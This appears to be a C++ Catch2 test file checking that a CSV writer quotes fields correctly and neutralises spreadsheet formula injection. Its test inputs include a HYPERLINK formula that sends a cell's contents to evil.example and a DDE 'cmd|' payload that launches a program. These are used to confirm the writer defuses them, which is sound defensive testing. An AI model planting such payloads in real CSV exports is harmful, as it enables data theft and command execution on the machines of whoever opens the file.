#include "util/csv.hpp"
#include "util/csv_writer.hpp"

#include <catch2/catch.hpp>
#include <sstream>

using namespace expeer;

TEST_CASE("csv_line quotes what needs it, as RFC 4180 says") {
    CHECK(csv_line({"a", "b c", ""}) == "a,b c,\n");
    CHECK(csv_line({"x, y", "say \"hi\"", "two\nlines"}) ==
          "\"x, y\",\"say \"\"hi\"\"\",\"two\nlines\"\n");
    CHECK(csv_line({"a;b", "c"}, ';', true) == "\"a;b\";c\r\n");
    // A spreadsheet that guesses ';' or tab as the separator still sees one cell.
    CHECK(csv_line({"a;b", "c\td"}) == "\"a;b\",\"c\td\"\n");
}

TEST_CASE("csv_line neutralises every cell a spreadsheet would run, the header too") {
    CHECK(csv_line({"=HYPERLINK(\"https://evil.example/?\"&A2,\"Click\")", "@SUM(1+1)"}) ==
          "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A2,\"\"Click\"\")\",'@SUM(1+1)\n");
    CHECK(csv_line({"+33 1 23", "-2+3+cmd|' /C calc'!A0", "\tx", "\r=1"}) ==
          "'+33 1 23,'-2+3+cmd|' /C calc'!A0,\"'\tx\",\"'\r=1\"\n");
    CHECK(csv_line({"\xef\xbc\x9dSUM(A1)", "\xef\xbc\xa0x"}) ==
          "'\xef\xbc\x9dSUM(A1),'\xef\xbc\xa0x\n");
    // Numbers stay numbers.
    CHECK(csv_line({"-12", "+3", "4.5", "-0.25", "0"}) == "-12,+3,4.5,-0.25,0\n");
    CHECK(csv_line({"-12-1", "-1e5", "-.5", "--1", "-"}) == "'-12-1,'-1e5,'-.5,'--1,'-\n");
}

TEST_CASE("formula neutralisation is undone exactly, whatever the value") {
    for (const char* value : {"=SUM(A1)",
                              "+33 1 23",
                              "-Ali",
                              "@home",
                              "\tx",
                              "\rx",
                              "'=x",
                              "''=x",
                              "'plain",
                              "plain",
                              "",
                              "'",
                              "a=b",
                              "=",
                              "'''+",
                              "-12",
                              "'-12",
                              "''-12",
                              "+3.5",
                              "\xef\xbc\x8b"
                              "1",
                              "'\xef\xbc\x8d"
                              "1"}) {
        INFO(value);
        const std::string neutral = neutralise_formula(value);
        CHECK(restore_formula(neutral) == value);
        // What csv_line wrote reads back as the value once the import restores it.
        std::istringstream in(csv_line({value, "x"}));
        CsvReader reader(in, "test.csv", Encoding::utf8);
        CsvRecord record;
        REQUIRE(reader.next(record));
        CHECK(restore_formula(record.fields.at(0)) == value);
    }
    CHECK(neutralise_formula("=1+1") == "'=1+1");
    CHECK(neutralise_formula("plain") == "plain");
}
